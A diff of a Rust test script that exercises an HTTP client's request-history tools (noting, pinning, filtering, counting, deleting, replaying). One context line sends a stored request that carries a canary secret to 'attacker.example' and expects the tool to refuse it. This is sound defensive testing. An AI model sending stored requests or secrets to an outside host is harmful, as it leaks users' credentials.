@@ -52,12 +52,22 @@ impl Script {
         self.ask("history_list", query(&self.plan.secret("client secret")));
         self.ask("history_get", json!({ "id": exchange }));
         self.ask("history_body", json!({ "id": exchange, "offset": 0 }));
+        let noted = json!({ "id": exchange, "text": self.plan.secret("client secret") });
+        self.ask("history_note", noted);
+        self.ask("history_pin", json!({ "id": exchange, "pinned": true }));
+        self.ask("history_list", query("is:pinned is:noted status:4xx,2xx"));
+        self.refused("history_list", query("stauts:404"));
+        let whose = json!({ "profile": null, "text": "" });
+        self.ask("history_count", whose.clone());
+        self.ask("history_size", json!({}));
         let replay = json!({ "id": exchange, "profile": id, "confirmed": true });
         self.ask("history_replay", replay);
         let mut elsewhere = request.clone();
         elsewhere["url"] = json!("https://attacker.example/");
         let call = json!({ "profile": id, "request": elsewhere, "confirmed": true });
         self.refused("request_send", call);
+        self.ask("history_delete", json!({ "ids": [exchange] }));
+        self.ask("history_delete_matching", whose);
     }
 
     /// A file whose request asks for a secret, which is a canary.
